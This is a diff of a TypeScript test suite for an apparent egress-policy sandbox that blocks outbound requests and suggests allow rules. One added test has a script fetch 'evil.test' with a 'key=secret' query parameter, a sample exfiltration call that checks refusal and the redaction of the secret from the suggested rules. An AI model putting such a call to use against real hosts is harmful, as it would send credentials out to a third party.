@@ -158,7 +158,7 @@ network_policies:
     expect(ran.stderr).toMatch(/refused {2}evil\.test:443 {2}CONNECT {2}egress-policy/);
   });
 
-  test("the smallest policy that lets it through is told, written, and lets it through", async () => {
+  test("the policy that lets it through is told, written, and lets it through", async () => {
     const { port } = origin;
     const url = (host: string, path: string) => `https://${host}:${port}${path}`;
     const rules = "{ name: egress-policy, config: { allow: [origin.test] } }";
@@ -196,8 +196,27 @@ network_policies:
     expect(again.stderr).toMatch(
       /reached {2}origin\.test:\d+ +GET\n {2}1 refused, 1 failed, 1 reached/,
     );
-    expect((await run("--config", held, "--learn", learned, "--", "true")).code).toBe(2);
-    expect(await readFile(learned, "utf8")).toBe(text);
+  });
+
+  test("what was refused ends the run, with the lines that would allow it", async () => {
+    const rules = "{ name: egress-policy, config: { allow: [origin.test] } }";
+    const fenced = await configFile("refusing.yaml", `{ default: deny, plugins: [${rules}] }`);
+    const code = `fetch("https://evil.test:${origin.port}/v1/chat?key=secret").catch(() => {})`;
+    const ran = await run("--config", fenced, "--", ...script(code));
+    expect(ran.code, ran.stderr).toBe(0);
+    const [, lines = ""] = ran.stderr.split("would allow what was refused:\n");
+    expect(lines).not.toContain("secret");
+    expect(parse(lines)).toMatchObject({
+      network_policies: {
+        [`allow_evil_test_${origin.port}`]: {
+          endpoints: [
+            { host: "evil.test", rules: [{ allow: { method: "GET", path: "/v1/chat" } }] },
+          ],
+        },
+      },
+    });
+    const nothing = await run("--config", fenced, "--", "true");
+    expect(nothing.stderr).not.toContain("would allow");
   });
 
   test("one that tries nothing is told as that", async () => {
